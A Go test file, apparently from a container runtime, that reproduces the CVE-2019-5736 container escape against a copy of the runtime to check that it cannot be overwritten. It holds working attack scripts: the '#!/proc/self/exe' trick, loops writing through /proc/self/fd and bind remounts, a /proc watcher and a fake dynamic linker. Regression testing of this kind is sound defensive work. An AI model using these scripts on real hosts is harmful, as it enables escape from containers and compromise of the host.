package attacks

import (
	"bytes"
	"debug/elf"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/livemigrate/migrate/internal/testutil"
)

// CVE-2019-5736: the program of the image is a script for the interpreter /proc/self/exe. Whoever executes it inside
// executes itself again, with the image's libraries: the attacker's code runs, and /proc/self/exe is the runtime on the
// host. Every attack has all capabilities, so that nothing but the runtime's own precaution is in its way.
func TestCVE_2019_5736_InitCannotOverwriteTheRuntime(t *testing.T) {
	v := newOverwrite(t, os.Getenv(dynamicVariable))
	v.interpreter(v.program)
	v.spec.Process.Args = []string{"/bin/target"}
	v.running()
	v.wantHeld(v.program)
}

func TestCVE_2019_5736_ExecCannotOverwriteTheRuntime(t *testing.T) {
	v := newOverwrite(t, os.Getenv(dynamicVariable))
	v.interpreter(v.program)
	v.running()
	if out, err := v.exec([]string{"--detach"}, "/bin/target"); err != nil {
		t.Fatalf("exec: %v: %s", err, out)
	}
	v.wantHeld(v.program)
}

// A process of the container reaches for every process that appears in it while the runtime is on its way in.
func TestCVE_2019_5736_WatcherCannotOverwriteTheRuntime(t *testing.T) {
	v := newOverwrite(t, os.Getenv(runtimeVariable))
	v.watching()
	for range 20 {
		if out, err := v.exec(nil, "true"); err != nil {
			t.Fatalf("exec: %v: %s", err, out)
		}
	}
	v.stop()
	v.wantHeld(v.program)
}

// The program as it ships has no interpreter that an image could bring: the script makes it run itself, inside.
func TestCVE_2019_5736_StaticRuntimeIsNotOverwrittenThroughItself(t *testing.T) {
	v := newOverwrite(t, os.Getenv(runtimeVariable))
	v.watching()
	for range 20 {
		out, err := v.exec(nil, "/bin/target")
		if err == nil || !strings.Contains(out, "/bin/target") {
			t.Errorf("the script did not make the runtime run itself: %v: %s", err, out)
		}
	}
	v.stop()
	v.wantHeld(v.program)
}

// The same attack on a runtime that takes no precaution, which must fall: else the others prove nothing.
func TestCVE_2019_5736_NaiveRuntimeIsOverwritten(t *testing.T) {
	v := newOverwrite(t, os.Getenv(runtimeVariable))
	naive := filepath.Join(v.dir, "naive")
	compile(t, naive, "testdata/naive.c")
	v.interpreter(naive)
	v.running()
	before, err := os.ReadFile(naive)
	must(t, err)
	must(t, exec.Command(naive, strconv.Itoa(v.pid()), "/bin/target").Run())
	v.await()
	if after, err := os.ReadFile(naive); err != nil || bytes.Equal(before, after) {
		t.Errorf("the naive runtime is as it was (%v): %s", err, v.result())
	}
}

// overwrite is a container whose image attacks the runtime's program. That is a copy: an attack may succeed.
type overwrite struct {
	*container
	before []byte
}

func newOverwrite(t *testing.T, runtime string) *overwrite {
	w := newWorld(t)
	program, err := os.ReadFile(runtime)
	must(t, err)
	w.program = filepath.Join(w.dir, "runtime")
	must(t, os.WriteFile(w.program, program, 0o755))
	v := &overwrite{container: w.container("victim", "sleep", "1000"), before: program}
	t.Cleanup(v.reap)
	v.script("bin/target", "#!/proc/self/exe")
	v.script("attack", `
		sh /write 300
		echo done >>/result
		exec sleep 1000`)
	v.script("write", `
		echo opened $(readlink /proc/self/fd/$FD) >>/result
		i=0
		while [ $i -lt $1 ]; do
			(echo pwned >/proc/self/fd/$FD) 2>>/errors && echo written >>/result
			(mount --bind /proc/self/fd/$FD /tmp/exe && mount -o remount,rw,bind /tmp/exe && echo pwned >/tmp/exe) 2>>/errors && echo written >>/result
			i=$((i+1))
		done`)
	// The names are compared by the shell itself: a program that is started for it would be too slow. Each process is
	// attacked from its own background, once, for it takes until the runtime on the host has ended that writing is not busy.
	v.script("watch", `
		echo ready >/ready
		while ! [ -e /stop ]; do
			for p in /proc/[0-9]*; do
				case " $seen " in *" $p "*) continue;; esac
				[ $p/exe -ef /bin/busybox ] && continue
				{ FD=3 sh /write 50 & seen="$seen $p"; } 3<$p/exe
			done
		done 2>>/errors
		wait
		echo done >>/result
		exec sleep 1000`)
	v.script("tmp/exe", "")
	all := allCapabilities()
	v.spec.Process.Capabilities = &all
	v.spec.Process.NoNewPrivileges = false
	v.spec.Linux.MaskedPaths, v.spec.Linux.ReadonlyPaths = nil, nil
	return v
}

// watching makes the container one whose init is the watcher, until stop.
func (v *overwrite) watching() {
	v.t.Helper()
	v.spec.Process.Args = []string{"sh", "/watch"}
	v.running()
	v.eventually("the watcher watches", func() bool {
		_, err := os.Stat(filepath.Join(v.rootfs, "ready"))
		return err == nil
	})
}

func (v *overwrite) stop() { v.script("stop", "") }

// reap kills all and takes what became ours: what exec left in the background keeps init from ending until it is reaped.
func (v *overwrite) reap() {
	_, _ = v.migrate("kill", "--all", v.id, "KILL")
	for range 500 {
		pid, err := syscall.Wait4(-1, nil, syscall.WNOHANG, nil)
		if err != nil {
			return
		}
		if pid == 0 {
			time.Sleep(10 * time.Millisecond)
		}
	}
}

func (v *overwrite) script(path, text string) {
	v.t.Helper()
	must(v.t, os.WriteFile(filepath.Join(v.rootfs, path), []byte(text+"\n"), 0o755))
}

// interpreter puts the attacker's code where the program's dynamic linker is looked for.
func (v *overwrite) interpreter(program string) {
	v.t.Helper()
	file, err := elf.Open(program)
	must(v.t, err)
	defer file.Close()
	section := file.Section(".interp")
	testutil.Need(v.t, section != nil, "a runtime that is linked dynamically")
	name, err := section.Data()
	must(v.t, err)
	path := filepath.Join(v.rootfs, string(bytes.TrimRight(name, "\x00")))
	must(v.t, os.MkdirAll(filepath.Dir(path), 0o755))
	compile(v.t, path, "testdata/interpreter.c", "-nostdlib", "-static-pie", "-fPIE", "-fno-stack-protector", "-mgeneral-regs-only")
}

func compile(t *testing.T, program, source string, options ...string) {
	t.Helper()
	args := append(options, "-Wall", "-Wextra", "-Werror", "-o", program, source)
	if text, err := exec.Command(testutil.Command(t, "gcc"), args...).CombinedOutput(); err != nil {
		t.Fatalf("compile %s: %v: %s", source, err, text)
	}
}

func (v *overwrite) result() string {
	text, _ := os.ReadFile(filepath.Join(v.rootfs, "result"))
	return string(text)
}

// await returns when the attack has done all it can.
func (v *overwrite) await() {
	v.t.Helper()
	for range 200 {
		if strings.Contains(v.result(), "done\n") {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	errors, _ := os.ReadFile(filepath.Join(v.rootfs, "errors"))
	v.t.Fatalf("the attack does not end: %s%s", v.result(), errors)
}

// wantHeld waits for an attack that did reach the program, and could not write.
func (v *overwrite) wantHeld(program string) {
	v.t.Helper()
	v.await()
	reached := false
	for line := range strings.Lines(v.result()) {
		name, opened := strings.CutPrefix(line, "opened /")
		reached = reached || opened && name != "bin/busybox\n" // a process that had executed its own program by then
	}
	if !reached {
		v.t.Errorf("the attack did not even begin: %s", v.result())
	}
	v.t.Logf("reached: %s", strings.ReplaceAll(v.result(), "\n", "; "))
	v.wantIntact(program)
}

func (v *overwrite) wantIntact(program string) {
	v.t.Helper()
	after, err := os.ReadFile(program)
	if err != nil || !bytes.Equal(v.before, after) {
		v.t.Errorf("the runtime was overwritten, %d bytes are %d: %v", len(v.before), len(after), err)
	}
	if strings.Contains(v.result(), "written") {
		v.t.Errorf("something was written to: %s", v.result())
	}
}
